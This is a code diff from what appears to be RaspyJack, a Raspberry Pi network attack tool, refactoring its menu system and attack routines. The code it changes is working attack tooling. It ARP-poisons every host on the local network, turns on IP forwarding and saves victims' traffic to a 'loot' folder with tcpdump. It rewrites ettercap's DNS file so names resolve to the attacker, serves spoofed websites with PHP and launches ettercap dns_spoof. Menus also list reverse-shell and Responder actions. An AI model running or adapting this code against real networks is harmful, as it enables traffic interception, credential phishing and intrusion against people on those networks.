+    if _arp_thread is not None:
+        _arp_thread.join(timeout=_ARP_RESEND_INTERVAL + 1)
+
+def _arp_poisoning() -> bool:
+    return _arp_thread is not None and _arp_thread.is_alive()
+
 def start_mitm():
+    _stop_arp_poisoner()
     safe_kill("arpspoof", "tcpdump")
     dialog_info(_widget_context, "Starting MITM & Sniff\nIn progress...\nPlease wait...", wait=True, center=True)
     
@@ -660,8 +910,9 @@ def start_mitm():
 
 # Scan hosts on the network
     print("[*] Scanning hosts on network...")
-    cmd = f"arp-scan --localnet --quiet|grep -v 'Interface\|Starting\|packets\|Ending'"
-    result = os.popen(cmd).readlines()
+    out = subprocess.run(["arp-scan", "--localnet", "--quiet"], capture_output=True, text=True).stdout
+    result = [line for line in out.splitlines()
+              if not any(word in line for word in _ARP_SCAN_NOISE)]
 
 # Display IP and MAC addresses of hosts
     hosts = []
@@ -678,19 +929,19 @@ def start_mitm():
 # If at least one host is found, launch the ARP MITM attack
     if len(hosts) > 1:
         print(f"[*] Launching ARP poisoning attack via {interface}...")
-        for host in hosts:
-            if host['ip'] != gateway_ip:
-                subprocess.Popen(["arpspoof", "-i", interface, "-t", gateway_ip, host['ip']])
-                subprocess.Popen(["arpspoof", "-i", interface, "-t", host['ip'], gateway_ip])
+        if not _start_arp_poisoner(interface, gateway_ip, hosts):
+            for host in hosts:
+                if host['ip'] != gateway_ip:
+                    _spawn_detached(["arpspoof", "-i", interface, "-t", gateway_ip, host['ip']])
+                    _spawn_detached(["arpspoof", "-i", interface, "-t", host['ip'], gateway_ip])
         print("[*] ARP poisoning attack complete.")
 
 # Start tcpdump capture to sniff network traffic
         now = datetime.now().strftime("%Y-%m-%d_%H-%M-%S")
         pcap_file = f"/root/Raspyjack/loot/MITM/network_traffic_{now}.pcap"
         print(f"[*] Starting tcpdump capture and writing packets to {pcap_file}...")
-        os.system("echo 1 > /proc/sys/net/ipv4/ip_forward")
-        tcpdump_process = subprocess.Popen(["tcpdump", "-i", interface, "-w", pcap_file], stdout=subprocess.PIPE)
-        tcpdump_process.stdout.close()
+        _set_ip_forward(True)
+        _spawn_detached(["tcpdump", "-i", interface, "-w", pcap_file])
         dialog_info(_widget_context, f"MITM & Sniff\nOn {len(hosts)-1} hosts\nInterface: {interface}", wait=True, center=True)
         time.sleep(8)
     else:
@@ -699,8 +950,9 @@ def start_mitm():
         time.sleep(2)
 
 def stop_mitm():
+    _stop_arp_poisoner()
     safe_kill("arpspoof", "tcpdump")
-    os.system("echo 0 > /proc/sys/net/ipv4/ip_forward")
+    _set_ip_forward(False)
     time.sleep(2)
     status_bar.set_temp_status("(MITM stopped)", ttl=5)
     dialog_info(_widget_context, "MITM & Sniff\nStopped!", wait=True, center=True)
@@ -717,12 +969,11 @@ def spoof_site(name: str):
     dialog_info(_widget_context, f"Spoofing\n{name}!", wait=True, center=True)
     time.sleep(2)
 
-    subprocess.run("pkill -f 'php'", shell=True)   # stop PHP instances
+    _kill_matching(b"php")                        # stop PHP instances
     time.sleep(1)
 
     webroot = f"/root/Raspyjack/DNSSpoof/sites/{name}"
-    cmd = f"cd {webroot} && php -S 0.0.0.0:80"
-    subprocess.Popen(cmd, shell=True)              # launch the built-in PHP
+    _spawn_detached(["php", "-S", "0.0.0.0:80"], cwd=webroot)  # launch the built-in PHP
 
 # Central list of sites to spoof: add/remove freely here
 SITES = [
@@ -736,26 +987,33 @@ SITES = [
 site_spoof = "wordpress"
 # Path to etter.dns file
 ettercap_dns_file = "/etc/ettercap/etter.dns"
+_IPV4_RE = re.compile(r"[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+")
 
 
 def start_dns_spoofing():
     # Get best interface for DNS spoofing
     interface = get_best_interface()
     
-    # Get gateway and current IP automatically
-    gateway_ip = subprocess.check_output("ip route | awk '/default/ {print $3}'", shell=True).decode().strip()
+    # Get current IP automatically
     current_ip = get_dns_spoof_ip(interface)
     
     if not current_ip:
         dialog_info(_widget_context, "DNS Spoof Error\nNo IP available", wait=True)
         return
 
-# Escape special characters in the IP address for the sed command
-    escaped_ip = current_ip.replace(".", r"\.")
-
-    # Use sed to modify IP addresses in etter.dns file
-    sed_command = f"sed -i 's/[0-9]\+\.[0-9]\+\.[0-9]\+\.[0-9]\+/{escaped_ip}/g' {ettercap_dns_file}"
-    subprocess.run(sed_command, shell=True)
+    # Point every IP address in etter.dns at this host
+    try:
+        with open(ettercap_dns_file, "r+") as f:
+            original = f.read()
+            dns_config = _IPV4_RE.sub(current_ip, original)
+            if dns_config != original:
+                f.seek(0)
+                f.write(dns_config)
+                f.truncate()
+    except OSError as e:
+        print(f"[-] Cannot update {ettercap_dns_file}: {e}")
+        dialog_info(_widget_context, "etter.dns not found", wait=True, center=True)
+        return
 
     print("------------------------------- ")
     print(f"Site: {site_spoof}")
@@ -763,25 +1021,26 @@ def start_dns_spoofing():
     print(f"IP: {current_ip}")
     print("------------------------------- ")
     print("dns domain spoofed: ")
-    dnsspoof_command = f"cat {ettercap_dns_file} | grep -v '#'"
-    subprocess.run(dnsspoof_command, shell=True)
+    for line in dns_config.splitlines():
+        if "#" not in line:
+            print(line)
     print("------------------------------- ")
 
 # Commands executed in the background
-    website_command = f"cd /root/Raspyjack/DNSSpoof/sites/{site_spoof} && php -S 0.0.0.0:80"
-    ettercap_command = f"ettercap -Tq -M arp:remote -P dns_spoof -i {interface}"
+    website_command = ["php", "-S", "0.0.0.0:80"]
+    ettercap_command = ["ettercap", "-Tq", "-M", "arp:remote", "-P", "dns_spoof", "-i", interface]
     dialog_info(_widget_context, f"DNS Spoofing\n{site_spoof} started!\nInterface: {interface}", wait=True, center=True)
     time.sleep(2)
 
 # Execution of background commands
-    website_process = subprocess.Popen(website_command, shell=True)
-    ettercap_process = subprocess.Popen(ettercap_command, shell=True)
+    website_process = _spawn_detached(website_command, cwd=f"/root/Raspyjack/DNSSpoof/sites/{site_spoof}")
+    ettercap_process = _spawn_detached(ettercap_command)
 
 
 def stop_dns_spoofing():
     # Terminate website and ettercap processes
-    subprocess.run("pkill -f 'php'", shell=True)
-    subprocess.run("pkill -f 'ettercap'", shell=True)
+    _kill_matching(b"php")
+    _kill_matching(b"ettercap")
 
     dialog_info(_widget_context, "DNS Spoofing\nStopped!", wait=True, center=True)
     time.sleep(2)
@@ -860,6 +1119,7 @@ def switch_interface_menu():
                 dialog_info(_widget_context, f"Switching to\n{selected_iface}...", wait=True, center=True)
                 success = set_raspyjack_interface(selected_iface)
                 if success:
+                    invalidate_network_cache()
                     dialog_info(_widget_context, f"✓ Switched to\n{selected_iface}", wait=True, center=True)
                 else:
                     dialog_info(_widget_context, f"✗ Switch failed", wait=True, center=True)
@@ -919,6 +1179,7 @@ def switch_to_wifi():
         success = ensure_interface_default(wifi_iface)
         
         if success:
+            invalidate_network_cache()
             dialog_info(_widget_context, f"✓ Switched to WiFi\n{wifi_iface}", wait=True, center=True)
         else:
             dialog_info(_widget_context, f"✗ Switch failed", wait=True, center=True)
@@ -939,6 +1200,7 @@ def switch_to_ethernet():
         success = ensure_interface_default("eth0")
         
         if success:
+            invalidate_network_cache()
             dialog_info(_widget_context, "✓ Switched to Ethernet\neth0", wait=True, center=True)
         else:
             dialog_info(_widget_context, "✗ Switch failed", wait=True, center=True)
@@ -975,6 +1237,7 @@ def quick_wifi_toggle():
         success = set_raspyjack_interface(target)
         
         if success:
+            invalidate_network_cache()
             dialog_info(_widget_context, f"✓ SWITCHED!\n{target} active", wait=True)
         else:
             dialog_info(_widget_context, f"✗ FAILED!\n{target} not ready", wait=True)
@@ -990,10 +1253,13 @@ def _setup_gpio() -> None:
     GPIO.setmode(GPIO.BCM)
     for pin in gpio_config.pins.values():
         GPIO.setup(pin, GPIO.IN, pull_up_down=GPIO.PUD_UP)
+    rearm_button_events()
 
-    global LCD, image, draw
-    LCD = LCD_1in44.LCD()
+    # Re-init the same LCD object the widget context holds; the payload drew
+    # through its own instance, so our cached panel contents are stale
+    global image, draw
     LCD.LCD_Init(LCD_1in44.SCAN_DIR_DFT)
+    LCD.LCD_Invalidate()
     image = Image.new("RGB", (LCD.width, LCD.height), "BLACK")
     draw  = ImageDraw.Draw(image)
 
@@ -1004,7 +1270,7 @@ def pick_and_run_payload():
     to relevant files (.py and payload.sh) while still allowing directory descent.
     """
     base_path = default.payload_path
-    selected = explorer(_widget_context, base_path, extensions=".py|.sh")
+    selected = explorer(_widget_context, base_path, extensions=(".py", ".sh"))
     if not selected:
         return
     rel = os.path.relpath(selected, base_path)
@@ -1014,6 +1280,36 @@ def pick_and_run_payload():
         return
     exec_payload(rel)
 
+def _stream_payload_output(proc, log) -> None:
+    """Forward raw output chunks to the console and the log; no per-line decoding."""
+    if not proc.stdout:
+        return
+    fd = proc.stdout.fileno()
+    os.set_blocking(fd, False)
+    out = sys.stdout.buffer
+    # Registered once; each wait is a single epoll call on Linux
+    sel = selectors.DefaultSelector()
+    sel.register(fd, selectors.EVENT_READ)
+    try:
+        while True:
+            ready = sel.select(0.25)
+            if not ready:
+                if proc.poll() is not None:
+                    break
+                continue
+            try:
+                buf = os.read(fd, 65536)
+            except BlockingIOError:
+                continue
+            if not buf:
+                break
+            log.write(buf)
+            out.write(buf)
+            out.flush()
+    finally:
+        sel.close()
+        proc.stdout.close()
+
 def exec_payload(filename: str) -> None:
     """
     Executes a payload and ensures control always returns to the RaspyJack UI.
@@ -1044,19 +1340,21 @@ def exec_payload(filename: str) -> None:
         except Exception:
             pass
 
-    screen_lock.set()
+    set_screen_lock(True)
     LCD.LCD_Clear()
-    log = open(default.payload_log, "ab", buffering=0)
+    # Buffered so chatty payloads reach the SD card in large writes
+    log = open(default.payload_log, "ab", buffering=65536)
+    proc = None
     try:
-        proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd=default.install_path, text=True, bufsize=1)
-        if proc.stdout:
-            for line in iter(proc.stdout.readline, ''):
-                print(line, end='')
-                log.write(line.encode('utf-8'))
+        proc = subprocess.Popen(command, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, cwd=default.install_path, bufsize=0)
+        _stream_payload_output(proc, log)
         proc.wait()
     except Exception as exc:
         print(f"[PAYLOAD] E: {exc}")
     finally:
+        # Don't leave the payload running if we were interrupted (e.g. Ctrl-C)
+        if proc is not None and proc.poll() is None:
+            proc.terminate()
         log.close()
 
     print("[PAYLOAD] ◄ Restoring LCD & GPIO…")
@@ -1064,10 +1362,10 @@ def exec_payload(filename: str) -> None:
     color.draw_menu_background()
     color.draw_border()
     LCD.LCD_ShowImage(image, 0, 0)
-    t0 = time.time()
-    while any(GPIO.input(p) == 0 for p in gpio_config.pins.values()) and time.time() - t0 < .3:
-        time.sleep(.03)
-    screen_lock.clear()
+    # Wait (briefly) for buttons used by the payload to be released; the event
+    # manager wakes us on the RELEASE instead of this loop polling the pins
+    wait_buttons_released(.3)
+    set_screen_lock(False)
     if _event_bus is not None:
         try:
             _event_bus.emit("payload.after_exec", payload_name=run_label, success=True)
@@ -1097,6 +1395,10 @@ class MenuManager:
         # its renderer when view mode changes without needing an inline handler.
         self._active_menu = None
         self._active_menu_key = None
+        # menu_key -> last selected index, so returning to a menu keeps its position
+        self._last_selection = {}
+        self._plugins_menu_sig = None
+        self._plugins_cfg = None
         self._build_menus()
 
     def _build_menus(self):
@@ -1120,7 +1422,7 @@ class MenuManager:
         ]
 
         # --- Submenus ---
-        self.menus["nmap"] = [MenuItem(name, partial(run_scan, name, args)) for name, args in SCANS.items()]
+        self.menus["nmap"] = [MenuItem(name, action) for name, action in SCAN_ACTIONS.items()]
         self.menus["reverse_shell"] = [MenuItem("Default Reverse", defaut_reverse), MenuItem("Remote Reverse", remote_reverse)]
         self.menus["responder"] = [MenuItem("Responder ON", responder_on), MenuItem("Responder OFF", responder_off)]
         self.menus["other"] = [
@@ -1163,9 +1465,33 @@ class MenuManager:
             self.menus["wifi"] = [MenuItem("WiFi Not Available", lambda: dialog_info(_widget_context, "WiFi system not found", wait=True))]
 
 
+    def _plugins_menu_signature(self):
+        """Cheap fingerprint of what the plugins menu is built from.
+
+        The plugins directory mtime changes when a plugin is added or removed and
+        the config mtime on every toggle/option save.
+        """
+        plugins_root = os.path.join(default.install_path, 'plugins')
+        sig = [id(_plugin_manager)]
+        for path in (plugins_root, os.path.join(plugins_root, 'plugins_conf.json')):
+            try:
+                sig.append(os.stat(path).st_mtime_ns)
+            except OSError:
+                sig.append(None)
+        return tuple(sig)
+
+    def _plugins_conf(self):
+        """Plugins configuration, re-read (and plugin dirs rescanned) only when
+        _plugins_menu_signature() changed since the last load."""
+        if self._plugins_cfg is None or self._plugins_menu_signature() != self._plugins_menu_sig:
+            self._plugins_cfg = _rt_load_plugins_conf(default.install_path)
+            # Taken after the load, which may itself write new plugin entries
+            self._plugins_menu_sig = self._plugins_menu_signature()
+        return self._plugins_cfg
+
     def _build_plugins_menu(self):
         """Dynamically builds the plugins menu from the plugins configuration."""
-        cfg = _rt_load_plugins_conf(default.install_path)
+        cfg = self._plugins_conf()
         entries = []
 
         # Create main plugin entries that lead to submenus
@@ -1183,9 +1509,9 @@ class MenuManager:
         # Build submenus for each plugin
         self._build_plugin_submenus(cfg)
     
-    def _build_plugin_submenus(self, cfg):
-        """Build individual submenus for each plugin."""
-        for plugin_name in cfg.keys():
+    def _build_plugin_submenus(self, cfg, names=None):
+        """Build individual submenus for each plugin (or only those in `names`)."""
+        for plugin_name in (cfg.keys() if names is None else names):
             submenu_key = f"plugin_{plugin_name}"
             enabled = cfg[plugin_name].get('enabled', False)
             
@@ -1206,7 +1532,7 @@ class MenuManager:
             def _make_info_viewer(pname):
                 def _show_info():
                     try:
-                        if '_plugin_manager' in globals() and _plugin_manager is not None:
+                        if _plugin_manager is not None:
                             info = _plugin_manager.get_plugin_info(pname)
                             if info:
                                 lines = info.split('\n') if '\n' in info else [info]
@@ -1224,7 +1550,7 @@ class MenuManager:
                     """Callback fired when checkbox is toggled."""
                     try:
                         # Update plugin manager
-                        if '_plugin_manager' in globals() and _plugin_manager is not None:
+                        if _plugin_manager is not None:
                             _plugin_manager.set_plugin_config_value(pname, config_key, new_state)
                         
                         # Update and save persistent config
@@ -1276,7 +1602,7 @@ class MenuManager:
             
             # Add plugin-specific configuration items if plugin is loaded and has configs
             try:
-                if '_plugin_manager' in globals() and _plugin_manager is not None and enabled:
+                if _plugin_manager is not None and enabled:
                     config_schema = _plugin_manager.get_plugin_config_schema(plugin_name)
                     if config_schema:
                         # Add separator if we have configs
@@ -1300,7 +1626,7 @@ class MenuManager:
 
             # Append plugin-provided custom actions (if any)
             try:
-                if '_plugin_manager' in globals() and _plugin_manager is not None and enabled:
+                if _plugin_manager is not None and enabled:
                     inst = _plugin_manager.get_plugin_instance(plugin_name)
                     if inst and hasattr(inst, 'provide_menu_items'):
                         provided = inst.provide_menu_items() or []
@@ -1336,16 +1662,23 @@ class MenuManager:
         if self._active_menu_key == "main" and self._active_menu is not None:
             self._active_menu.renderer = self.renderers[self.view_mode]
             # Ensure selection index still valid (item count unchanged but future-proof)
-            self._active_menu._ensure_valid_selection()
+            self._active_menu.set_selection(self._active_menu.selected_index)
 
     def show_menu(self, menu_key: str, force_refresh=False):
         """
         Displays a menu and handles user interaction.
         This is a single step in the main run loop.
         """
-        # Rebuild dynamic menus just before they are displayed
+        # Rebuild dynamic menus just before they are displayed. The item lists
+        # are cheap and plugin-provided labels may depend on runtime state, so
+        # they are always rebuilt; only the config load/discovery is cached.
         if menu_key == "plugins":
             self._build_plugins_menu()
+        elif menu_key.startswith("plugin_"):
+            cfg = self._plugins_conf()
+            plugin_name = menu_key[len("plugin_"):]
+            if plugin_name in cfg:
+                self._build_plugin_submenus(cfg, (plugin_name,))
 
         items = self.menus.get(menu_key, [])
         is_main_menu = (menu_key == "main")
@@ -1353,6 +1686,7 @@ class MenuManager:
         renderer = self.renderers[self.view_mode] if is_main_menu else self.renderers["list"]
         menu = Menu(self.context, renderer)
         menu.set_items(items)
+        menu.set_selection(self._last_selection.get(menu_key, 0))
         # Register active menu tracking
         self._active_menu = menu
         self._active_menu_key = menu_key
@@ -1365,6 +1699,7 @@ class MenuManager:
         
         # This call blocks and waits for user input
         action = menu.run_interactive(custom_handlers=custom_handlers)
+        self._last_selection[menu_key] = menu.selected_index
 
         if action is None:
             # User pressed 'back', so pop the current menu from the stack to go up one level
@@ -1376,6 +1711,7 @@ class MenuManager:
         elif callable(action):
             # User selected an item with a function to execute.
             action()
+            refresh_activity_status()
 
     def run(self):
         """Run the menu system without blocking background overlay refresh."""
@@ -1410,7 +1746,7 @@ def main():
     )
     # After widget context creation, inject into plugin manager shared context
     try:
-        if '_plugin_manager' in globals() and _plugin_manager is not None:
+        if _plugin_manager is not None:
             # Update existing context dict inside plugin manager (if accessible)
             pm_ctx = getattr(_plugin_manager, '_ctx', None)
             if isinstance(pm_ctx, dict):
@@ -1450,7 +1786,7 @@ try:
 except Exception as _eb_exc:
     print(f"[EVENT_BUS] Init failed: {_eb_exc}")
 
-if 'PluginManager' in globals() and PluginManager is not None:
+if PluginManager is not None:
     try:
         plugins_cfg_path = os.path.join(default.install_path, 'plugins', 'plugins_conf.json')
         if not os.path.exists(plugins_cfg_path):